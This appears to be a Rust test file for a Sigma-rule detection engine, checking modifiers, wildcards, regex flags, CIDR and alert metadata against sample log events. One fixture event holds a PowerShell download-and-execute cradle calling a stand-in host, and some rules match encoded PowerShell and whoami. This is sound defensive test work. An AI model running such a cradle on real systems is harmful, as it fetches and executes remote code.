//! The Sigma specification's matching semantics, checked at keywarden's level: rules loaded
//! from YAML, events read by the real ingest path (JSON lines, generic shape: every rule runs),
//! matches read back from the alerts.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![allow(unreachable_pub)]

mod common;

use common::{lines, rule, run};

const EVENTS: &str = r#"{"CommandLine":"cmd.exe /c WHOAMI /all","Image":"C:\\Windows\\System32\\cmd.exe","User":"Admin","Port":3389,"ClientIP":"10.1.2.3","Note":null}
{"CommandLine":"powershell -enc SQBFAFgA","Image":"C:\\Tools\\a*b.exe","User":"bob","Port":"443","ClientIP":"2001:db8::7","Extra":"x"}
{"CommandLine":"powershell /enc AAAA","Image":"C:\\Tools\\axb.exe","User":"carol","Port":80,"ClientIP":"192.168.0.9"}
{"CommandLine":"powershell \u2013enc BBBB iex (New-Object Net.WebClient).DownloadString('aHR0cDovL2V2aWwuZXhhbXBsZS9w')","Image":"C:\\x\\sub\\dir\\tool.exe","User":"dave","Port":22,"Text":"line one\nsecond LINE"}
"#;

fn on_events(id: &str, detection: &str) -> Vec<u64> {
    let out = run(&rule(id, detection), "in.jsonl", EVENTS);
    lines(&out, id)
}

#[test]
fn plain_values_fold_case_and_cased_does_not() {
    assert_eq!(
        on_events("c1", "  sel:\n    User: ADMIN\n  condition: sel"),
        vec![1]
    );
    assert_eq!(
        on_events(
            "c2",
            "  sel:\n    CommandLine|contains: whoami\n  condition: sel"
        ),
        vec![1]
    );
    assert_eq!(
        on_events(
            "c3",
            "  sel:\n    CommandLine|contains|cased: whoami\n  condition: sel"
        ),
        Vec::<u64>::new()
    );
    assert_eq!(
        on_events(
            "c4",
            "  sel:\n    CommandLine|contains|cased: WHOAMI\n  condition: sel"
        ),
        vec![1]
    );
}

#[test]
fn wildcards_and_escapes() {
    assert_eq!(
        on_events("w1", "  sel:\n    Image: '*\\cmd.exe'\n  condition: sel"),
        vec![1]
    );
    // `\*` is a literal star; `?` is one character.
    assert_eq!(
        on_events(
            "w2",
            "  sel:\n    Image: 'C:\\Tools\\a\\*b.exe'\n  condition: sel"
        ),
        vec![2]
    );
    assert_eq!(
        on_events(
            "w3",
            "  sel:\n    Image: 'C:\\Tools\\a?b.exe'\n  condition: sel"
        ),
        vec![2, 3]
    );
    // A single backslash before an ordinary character stays a backslash; a doubled `\\` in the rule is one
    // backslash, so the star after it is a wildcard...
    assert_eq!(
        on_events(
            "w4",
            "  sel:\n    Image: 'C:\\x\\sub\\dir\\\\*'\n  condition: sel"
        ),
        vec![4]
    );
    // ... while `\*` at the end is a literal star.
    assert_eq!(
        on_events(
            "w5",
            "  sel:\n    Image: 'C:\\x\\sub\\dir\\*'\n  condition: sel"
        ),
        Vec::<u64>::new()
    );
}

#[test]
fn all_modifier_needs_every_value() {
    assert_eq!(
        on_events(
            "a1",
            "  sel:\n    CommandLine|contains|all: [powershell, enc]\n  condition: sel"
        ),
        vec![2, 3, 4]
    );
    assert_eq!(
        on_events(
            "a2",
            "  sel:\n    CommandLine|contains|all: [powershell, iex]\n  condition: sel"
        ),
        vec![4]
    );
    // Without `all`, a list is any-of.
    assert_eq!(
        on_events("a3", "  sel:\n    User: [bob, carol]\n  condition: sel"),
        vec![2, 3]
    );
}

#[test]
fn regex_and_its_flags() {
    // Regexes are case-sensitive unless `|i`.
    assert_eq!(
        on_events("r1", "  sel:\n    User|re: '^[A-Z]'\n  condition: sel"),
        vec![1]
    );
    assert_eq!(
        on_events("r2", "  sel:\n    User|re|i: '^[A-Z]o'\n  condition: sel"),
        vec![2]
    );
    // `|m`: `^` and `$` match at line breaks.
    assert_eq!(
        on_events("r3", "  sel:\n    Text|re|m: '^second'\n  condition: sel"),
        vec![4]
    );
    assert_eq!(
        on_events("r4", "  sel:\n    Text|re: '^second'\n  condition: sel"),
        Vec::<u64>::new()
    );
    // `|s`: `.` matches a newline.
    assert_eq!(
        on_events(
            "r5",
            "  sel:\n    Text|re|s: 'one.second'\n  condition: sel"
        ),
        vec![4]
    );
}

#[test]
fn cidr_matches_v4_and_v6() {
    assert_eq!(
        on_events(
            "n1",
            "  sel:\n    ClientIP|cidr: [10.0.0.0/8, '2001:db8::/32']\n  condition: sel"
        ),
        vec![1, 2]
    );
}

#[test]
fn exists_and_null() {
    assert_eq!(
        on_events("e1", "  sel:\n    Extra|exists: true\n  condition: sel"),
        vec![2]
    );
    assert_eq!(
        on_events("e2", "  sel:\n    ClientIP|exists: false\n  condition: sel"),
        vec![4]
    );
    // `null` matches a null value and a missing field.
    assert_eq!(
        on_events("e3", "  sel:\n    Note: null\n  condition: sel"),
        vec![1, 2, 3, 4]
    );
    assert_eq!(
        on_events("e4", "  sel:\n    Text: null\n  condition: sel"),
        vec![1, 2, 3]
    );
}

#[test]
fn numeric_comparisons_read_numbers_and_numeric_strings() {
    assert_eq!(
        on_events("g1", "  sel:\n    Port|gte: 443\n  condition: sel"),
        vec![1, 2]
    );
    assert_eq!(
        on_events("g2", "  sel:\n    Port|lt: 80\n  condition: sel"),
        vec![4]
    );
    assert_eq!(
        on_events("g3", "  sel:\n    Port: 80\n  condition: sel"),
        vec![3]
    );
}

#[test]
fn one_of_pattern_and_all_of_them_skip_underscore_names() {
    let det = "  selection_a:\n    User: bob\n  selection_b:\n    User: carol\n  filter:\n    Port: 80\n  condition: 1 of selection_* and not filter";
    assert_eq!(on_events("o1", det), vec![2]);
    // `all of them` ignores `_`-prefixed identifiers.
    let det = "  sel:\n    CommandLine|contains: powershell\n  _helper:\n    User: nobody\n  condition: all of them";
    assert_eq!(on_events("o2", det), vec![2, 3, 4]);
}

#[test]
fn keywords_search_every_string_value() {
    let det = "  keywords:\n    - 'WebClient'\n    - 'whoami /all'\n  condition: keywords";
    assert_eq!(on_events("k1", det), vec![1, 4]);
}

#[test]
fn windash_accepts_slash_and_dashes() {
    let det = "  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel";
    assert_eq!(on_events("d1", det), vec![2, 3, 4]);
}

#[test]
fn base64offset_finds_encoded_text_at_any_alignment() {
    // 'aHR0cDovL2V2aWwuZXhhbXBsZS9w' is base64 of 'http://evil.example/p'.
    let det = "  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel";
    assert_eq!(on_events("b1", det), vec![4]);
}

#[test]
fn alerts_carry_rule_metadata_and_evidence() {
    let out = run(
        &rule("m1", "  sel:\n    User: carol\n  condition: sel"),
        "in.jsonl",
        EVENTS,
    );
    assert_eq!(out.alerts.len(), 1);
    let a = &out.alerts[0];
    assert_eq!(a.rule_id, "m1");
    assert_eq!(a.title, "test m1");
    assert_eq!(a.severity, keywarden_model::Severity::High);
    assert_eq!(a.attack, vec!["T1059.001"]);
    assert_eq!(a.record_ids, vec!["in.jsonl:3"]);
    assert_eq!(a.evidence["matched_fields"][0]["field"], "User");
    assert_eq!(a.evidence["logsource"], "generic");
    assert_eq!(out.stats.events, 4);
    assert_eq!(out.stats.matches, 1);
}

#[test]
fn regression_matched_selections_and_fields_came_in_hash_order() {
    // `all of sel_*` walks the rule's selections in the evaluator's hash-map order, which
    // changes from run to run (and map to map): two runs over the same input wrote the same
    // alert with its `matched_selections` and `matched_fields` in different orders.
    let names = [
        "sel_h", "sel_c", "sel_f", "sel_a", "sel_g", "sel_b", "sel_e", "sel_d",
    ];
    let mut detection = String::new();
    for (i, n) in names.iter().enumerate() {
        detection.push_str(&format!("  {n}:\n    F{i}: v{i}\n"));
    }
    detection.push_str("  condition: all of sel_*");
    let event: String = {
        let fields: Vec<String> = (0..names.len())
            .map(|i| format!("\"F{i}\":\"v{i}\""))
            .collect();
        format!("{{{}}}\n", fields.join(","))
    };
    let mut sorted: Vec<&str> = names.to_vec();
    sorted.sort_unstable();
    // Several stages, so several hash maps: each must write the one sorted order.
    for _ in 0..4 {
        let out = run(&rule("ord1", &detection), "in.jsonl", &event);
        let a = out.alerts.first().expect("the rule fires");
        assert_eq!(a.evidence["matched_selections"], serde_json::json!(sorted));
        let fields: Vec<&str> = a.evidence["matched_fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["field"].as_str().unwrap())
            .collect();
        let mut want = fields.clone();
        want.sort_unstable();
        assert_eq!(fields, want);
        assert_eq!(fields.len(), names.len());
    }
}
